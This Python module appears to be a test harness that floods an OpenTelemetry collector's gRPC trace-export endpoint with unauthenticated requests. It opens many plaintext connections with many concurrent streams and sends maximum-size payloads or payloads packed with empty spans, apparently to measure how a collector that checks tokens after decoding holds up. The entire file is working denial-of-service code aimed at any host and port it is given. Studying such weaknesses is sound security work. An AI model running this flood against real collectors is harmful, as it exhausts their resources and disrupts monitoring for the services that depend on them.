"""A flood of token-less OTLP/gRPC exports: many connections, each with many streams, each
sending a message up to the largest size a receiver takes, for a bounded number of rounds.
What an unauthenticated client on the network can do to a collector that checks its
token only once it has read and decoded the message (a gRPC unary interceptor). Two
shapes of message: one large attribute (bytes), and as many empty spans as fit (objects:
each span is 2 bytes on the wire and a whole span once decoded)."""

import threading
import time
from dataclasses import dataclass

import grpc
from opentelemetry.proto.collector.trace.v1 import trace_service_pb2
from opentelemetry.proto.common.v1 import common_pb2
from opentelemetry.proto.trace.v1 import trace_pb2

EXPORT = "/opentelemetry.proto.collector.trace.v1.TraceService/Export"


def export_request(size: int) -> bytes:
    """An ExportTraceServiceRequest of `size` bytes, serialized: one span, one attribute."""
    request = trace_service_pb2.ExportTraceServiceRequest(
        resource_spans=[trace_pb2.ResourceSpans(scope_spans=[trace_pb2.ScopeSpans(spans=[
            trace_pb2.Span(trace_id=b"\x01" * 16, span_id=b"\x02" * 8, name="flood")
        ])])]
    )  # fmt: skip
    span = request.resource_spans[0].scope_spans[0].spans[0]
    blob = span.attributes.add(key="blob", value=common_pb2.AnyValue(string_value=""))
    blob.value.string_value = "x" * (size - request.ByteSize())
    while request.ByteSize() > size:  # the lengths' own varints grew with it
        blob.value.string_value = blob.value.string_value[:-1]
    return request.SerializeToString()


def tiny_spans_request(size: int) -> bytes:
    """An ExportTraceServiceRequest of at most `size` bytes holding as many spans as fit,
    each empty: the most objects a request of that size decodes into."""
    spans = trace_pb2.ScopeSpans.FromString(b"\x12\x00" * (size // 2))  # field 2 (spans), length 0
    request = trace_service_pb2.ExportTraceServiceRequest(resource_spans=[trace_pb2.ResourceSpans(scope_spans=[spans])])
    while request.ByteSize() > size:  # the lengths' own varints
        del request.resource_spans[0].scope_spans[0].spans[-1]
    return request.SerializeToString()


@dataclass
class Flood:
    connections: int
    streams: int  # requests in flight on each connection at once
    payload: bytes  # a serialized request (export_request, tiny_spans_request)
    rounds: int

    def run(self, target: str, timeout: float = 60, stop: threading.Event | None = None) -> dict[str, int]:
        """Send `rounds` times `streams` requests on each of `connections` connections to
        `target` (host:port, plaintext), all of a round at once, without a token, or
        fewer rounds if `stop` is set meanwhile; the status codes the server answered,
        counted."""
        payload = self.payload
        # A local subchannel pool per channel: one TCP connection each, not one shared.
        options = [("grpc.use_local_subchannel_pool", 1), ("grpc.max_send_message_length", -1)]
        channels = [grpc.insecure_channel(target, options=options) for _ in range(self.connections)]
        calls = [
            channel.unary_unary(EXPORT, request_serializer=None, response_deserializer=None) for channel in channels
        ]
        answered: dict[str, int] = {}
        deadline = time.monotonic() + timeout
        try:
            for _ in range(self.rounds):
                if stop is not None and stop.is_set():
                    break
                pending = [call.future(payload, timeout=max(deadline - time.monotonic(), 1))
                           for call in calls for _ in range(self.streams)]  # fmt: skip
                for each in pending:  # gRPC's own futures: waited on one by one
                    error = each.exception()
                    code = error.code().name if error else "OK"
                    answered[code] = answered.get(code, 0) + 1
        finally:
            for channel in channels:
                channel.close()
        return answered
